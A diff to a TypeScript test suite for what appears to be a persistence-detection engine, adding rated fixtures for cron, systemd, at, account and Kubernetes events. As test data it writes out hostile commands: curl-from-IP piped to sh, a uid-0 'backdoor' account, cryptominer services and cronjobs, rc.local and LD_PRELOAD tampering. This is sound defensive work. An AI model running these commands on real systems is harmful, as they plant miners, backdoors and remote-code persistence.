@@ -81,6 +81,21 @@ const COMMANDS: readonly (readonly [string, string])[] = [
   ['docker run -d --restart=always example.com/a/b -o stratum+tcp://pool.example.com:3333', 'strong'],
   ['echo "curl http://198.51.100.9/x | sh" | at now + 1 minute', 'strong'],
   ['update-rc.d pwnrig defaults', 'strong'],
+  ['service moneroocean_miner start', 'strong'],
+  ['cp /bin/ps /bin/ps.original', 'strong'],
+  ['tntrecht +i /root/.ssh/authorized_keys', 'strong'],
+  ['at -f /tmp/x now', 'weak'],
+  ['systemd-run --on-calendar "*:0/5" --unit up sh -c "curl -s http://198.51.100.9/x | sh"', 'strong'],
+  ['systemd-run --on-calendar daily --unit backup /usr/local/bin/backup.sh', 'note'],
+  // Accounts, clusters, folders that were entered before.
+  ['useradd -o -u 0 -g 0 backdoor', 'strong'],
+  ['usermod -aG sudo games', 'weak'],
+  ['kubectl create cronjob a --image=example/xmrig:1 --schedule="* * * * *"', 'strong'],
+  ['kubectl create cronjob a --image=example/report:1 --schedule="0 1 * * *"', 'weak'],
+  ['cd /root/.ssh && echo "ssh-rsa AAAAB3NzaC1yc2E a@b" >> authorized_keys', 'weak'],
+  ['cd /etc/cron.d; echo "* * * * * root /tmp/x" > web', 'strong'],
+  ["sed -i 's/^exit 0/\\/tmp\\/x\\nexit 0/' /etc/rc.local", 'strong'],
+  ['echo "export LD_PRELOAD=/tmp/a.so" >> /etc/profile', 'strong'],
   // Windows.
   ['schtasks /create /sc minute /mo 1 /tn Update /tr "C:\\Users\\Public\\xmrig.exe" /ru System /f', 'strong'],
   [
@@ -91,6 +106,12 @@ const COMMANDS: readonly (readonly [string, string])[] = [
   ['schtasks /create /sc daily /tn Backup /tr "C:\\Tools\\backup.exe"', 'weak'],
   // What shares their words.
   ['crontab -l', '-'],
+  ['useradd -m -u 1001 deploy', '-'],
+  ['service nginx start', '-'],
+  ['kubectl get cronjob', '-'],
+  ['cp /usr/bin/ps /srv/chroot/usr/bin/', '-'],
+  ['grep -r "schtasks /create" docs', '-'],
+  ["sed -i 's/a/b/' /etc/systemd/system/web.service", 'note'],
   ['crontab -r', 'note'],
   ["crontab -l | sed '/kinsing/d' | crontab -", 'note'],
   ['crontab -e', 'weak'],
@@ -153,6 +174,9 @@ const FILES: readonly (readonly [string, string, string])[] = [
   ['/home/ec2-user/.bashrc', '/usr/bin/bash', 'weak'],
   ['/etc/udev/rules.d/99-a.rules', '/usr/bin/bash', 'weak'],
   ['/etc/passwd', '/usr/sbin/useradd', 'note'],
+  ['/home/deploy/.bashrc', '/usr/sbin/useradd', 'note'],
+  ['/etc/passwd', '/usr/bin/vim', 'weak'],
+  ['/etc/systemd/system/xmrig.service.d/a.conf', '/usr/bin/systemctl', 'strong'],
   ['/run/systemd/transient/run-1.service', '/usr/lib/systemd/systemd', '-'],
   ['/var/spool/anacron/cron.daily', '/usr/sbin/anacron', '-'],
   ['/var/log/cron', '/usr/sbin/crond', '-'],
@@ -162,6 +186,27 @@ const FILES: readonly (readonly [string, string, string])[] = [
 describe('files', () => {
   for (const [path, executable, expected] of FILES)
     test(`${expected}: ${executable} writes ${path}`, () => assert.equal(worst(file(path, executable)), expected));
+
+  test('knows busybox by the name that it was called by', () => {
+    const event = file('/etc/crontabs/root.new', '/bin/busybox', 'create', {
+      actor: { executable: '/bin/busybox', name: 'crontab' },
+    });
+    assert.equal(worst(event), 'weak');
+  });
+
+  test('counts a crontab once, whether its temporary file or its renaming was seen', () => {
+    const created = decide(file('/var/spool/cron/crontabs/tmp.Ab3xYz', '/usr/bin/crontab'));
+    const renamed = decide(
+      file('/var/spool/cron/crontabs/root', '/usr/bin/crontab', 'rename', {
+        previousPath: '/var/spool/cron/crontabs/tmp.Ab3xYz',
+      }),
+    );
+    assert.deepEqual(
+      [created, renamed].map((all) => all.map(({ part, strength }) => [part, strength])),
+      [[['cron', 'weak']], [['cron', 'weak']]],
+    );
+    assert.deepEqual(created[0]?.artifacts, [], 'a temporary name links nothing');
+  });
 
   test('reads and deletes are nothing, a watch that fired is a write', () => {
     assert.equal(worst(file('/etc/crontab', '/usr/bin/cat', 'read')), '-');
